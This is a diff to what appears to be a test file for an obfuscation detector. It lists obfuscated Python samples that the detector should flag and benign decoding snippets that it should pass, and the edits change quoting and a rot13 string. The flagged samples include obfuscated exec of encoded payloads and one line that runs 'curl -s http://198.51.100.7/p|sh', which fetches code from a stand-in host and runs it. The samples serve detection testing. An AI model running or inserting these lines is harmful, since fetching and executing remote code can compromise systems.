@@ -16,7 +16,7 @@ deobfCases("python", [
       `exec(bytes.fromhex('${enc.hex(SHELL)}').decode())`,
       `p = "${enc.rev(PAY)}"\nexec(p[::-1])`,
       `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${l1(deflateSync(SHELL))}')))`,
-      `getattr(__import__('o'+'s'), 'sys'+'tem')('curl -s http://198.51.100.7/p|sh')`,
+      `getattr(__import__("o" + "s"), "sy" + "stem")("curl -s http://198.51.100.7/p|sh")`,
       `exec(marshal.loads(base64.b64decode(blob)))`,
     ],
     pass: [
@@ -25,7 +25,7 @@ deobfCases("python", [
       `data = base64.b64decode(open("logo.b64").read()); open("logo.png", "wb").write(data)`,
       `print(''.join(chr(c) for c in [72, 101, 108, 108, 111]))`,
       `key = bytes.fromhex(os.environ["KEY_HEX"])`,
-      `print(codecs.decode('Uryyb jbeyq', 'rot13'))`,
+      `print(codecs.decode('Tbbq zbeavat', 'rot13'))`,
       `def reverse(s):\n    return s[::-1]\nassert reverse("abc") == "cba"`,
     ],
   },
